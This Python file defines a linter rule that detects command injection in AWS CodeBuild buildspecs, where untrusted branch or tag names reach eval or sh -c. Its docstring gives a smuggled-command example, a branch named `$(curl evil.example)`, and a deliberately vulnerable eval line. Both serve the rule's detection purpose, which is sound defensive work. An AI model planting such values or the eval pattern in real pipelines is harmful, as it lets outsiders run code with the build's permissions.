"""The name of a branch or tag, read as a command.

Whoever may push a branch or open a pull request chooses the text of `CODEBUILD_WEBHOOK_HEAD_REF` and its like. `eval`,
and a script in double quotes for `sh -c`, read that text as part of a command: a branch called `$(curl evil.example)`
then runs a program with the permissions of the build.

Use the variable as a quoted word of an ordinary command, or hand it over as an argument: `sh -c '... "$1"' sh "$REF"`.

## Bad

```yaml buildspec
version: 0.2
phases:
  build:
    commands:
      - eval "npm run build -- --branch $CODEBUILD_WEBHOOK_HEAD_REF"  # error
```

## Good

```yaml buildspec
version: 0.2
phases:
  build:
    commands:
      - npm run build -- --branch "$CODEBUILD_WEBHOOK_HEAD_REF"
```
"""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING

from specfmt.rules import Context, Finding, Severity, rule
from specfmt.rules.buildspec._commands import called
from specfmt.views.buildspec import Command

if TYPE_CHECKING:
    from collections.abc import Iterator

    from specfmt.shell.nodes import SimpleCommand, Word

_SHELLS = ("sh", "bash", "zsh", "dash")


@rule(on=Command, group="security", severity=Severity.WARNING)
def check(command: Command, ctx: Context) -> Iterator[Finding]:
    text = command.text
    if "CODEBUILD_" not in text or not ("eval" in text or "sh " in text):
        return
    from specfmt.catalog.variables import builtin_variable

    for simple in called(command, "eval", *_SHELLS):
        for word in _read_as_script(simple):
            for found in word.expansions:
                known = builtin_variable(found.name) if found.kind == "parameter" and found.name else None
                if known is not None and known.untrusted and found.prefix != "#":
                    yield Finding(
                        command.at(found.span),
                        f"`{found.name}` becomes part of a command that `{simple.name}` runs",
                        why="whoever names a branch or opens a pull request chooses this text",
                    )
                    return


def _read_as_script(simple: SimpleCommand) -> tuple[Word, ...]:
    """The words that the call reads as a script."""
    words = simple.argv
    if simple.name == "eval":
        return words[1:]
    for option, script in itertools.pairwise(words[1:]):
        if not option.text.startswith("-"):
            return ()
        if "c" in option.text and not option.text.startswith("--"):
            return (script,)
    return ()
